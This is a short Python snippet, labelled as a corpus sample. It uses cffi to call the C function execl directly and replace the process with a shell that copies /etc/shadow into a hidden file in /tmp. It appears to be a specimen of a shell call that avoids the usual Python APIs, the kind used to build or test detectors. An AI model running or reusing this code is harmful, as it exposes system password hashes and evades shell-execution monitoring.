# corpus: cffi ABI mode dlopen of the C library declaring execl and calling it to replace the process with a shell
from cffi import FFI

ffi = FFI()
ffi.cdef("int execl(const char *path, const char *arg, ...);")
C = ffi.dlopen(None)

sh = ffi.new("char[]", b"/bin/sh")
C.execl(sh, ffi.new("char[]", b"sh"), ffi.new("char[]", b"-c"),
        ffi.new("char[]", b"cat /etc/shadow > /tmp/.s"), ffi.NULL)
